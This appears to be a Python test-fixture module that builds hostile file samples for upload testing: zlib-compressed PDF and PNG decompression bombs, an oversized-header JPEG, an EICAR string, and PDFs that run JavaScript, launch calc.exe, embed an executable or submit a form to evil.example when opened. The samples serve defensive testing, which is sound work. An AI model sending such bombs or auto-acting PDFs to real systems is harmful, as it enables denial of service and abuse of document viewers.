"""Files as strangers send them: honest ones, and each kind that wants to do harm. Made here, never kept."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MARK = (200, 30, 30)


def a_pdf(*objects: bytes, words: str = "Chart summary", catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF of one page with `words`; `catalog` and `page` are put into those objects, `objects` follow."""
    drawing = b"BT /F1 24 Tf 72 700 Td (%s) Tj ET" % words.encode("latin-1")
    return _numbered(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawing), drawing),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    )


def _numbered(*objects: bytes) -> bytes:
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))
    return out.getvalue()


def many_pages(count: int) -> bytes:
    """A small PDF of `count` pages."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return _numbered(b"<< /Type /Catalog /Pages 2 0 R >>", tree, *[page] * count)


def drawing_bomb(megabytes: int = 400) -> bytes:
    """A PDF of one page whose drawing is small on disk and hundreds of megabytes of strokes when unpacked."""
    packer = zlib.compressobj(9)
    stroke = b"0 0 m 600 700 l S\n" * 60_000
    packed = b"".join(packer.compress(stroke) for _ in range(megabytes)) + packer.flush()
    return _numbered(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def encrypted_pdf() -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(612, 792)
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def acting_pdf(what: str) -> bytes:
    """A PDF that runs a script, starts a program, carries a file or sends a form, the moment it is opened."""
    acts = {
        "script": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "launch": b"/OpenAction << /S /Launch /F (calc.exe) >>",
        "file": b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        "sending": b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
    }
    program = b"<< /Length 4 >>\nstream\nMZ\x90\x00\nendstream"
    carried = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
    return a_pdf(carried, program, catalog=acts[what])


def a_zip(megabytes: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.exe", b"MZ" + bytes(megabytes * 1024 * 1024))
    return out.getvalue()


def a_picture(form: str = "PNG", size: tuple[int, int] = (300, 200), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, MARK).save(out, form, **options)
    return out.getvalue()


def a_tiff(frames: int = 1, size: tuple[int, int] = (300, 200)) -> bytes:
    out, frame = io.BytesIO(), Image.new("1", size, 1)
    frame.save(out, "TIFF", save_all=True, append_images=[frame] * (frames - 1))
    return out.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that tells where and by whom it was taken."""
    exif = Image.Exif()
    exif[0x013B] = "Taken by a neighbour"
    exif.get_ifd(0x8825).update({1: "N", 2: (45.0, 25.0, 0.0), 3: "W", 4: (75.0, 41.0, 0.0)})
    return a_picture("JPEG", exif=exif)


def picture_bomb(side: int = 30_000) -> bytes:
    """A PNG of some kilobytes that would fill gigabytes."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    packer = zlib.compressobj(9)
    line = bytes(1 + side)
    packed = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def boastful_jpeg() -> bytes:
    """A JPEG of a few bytes that says it is 65,500 pixels wide and high."""
    small = bytearray(a_picture("JPEG"))
    frame = small.index(b"\xff\xc0")
    small[frame + 5 : frame + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(small)
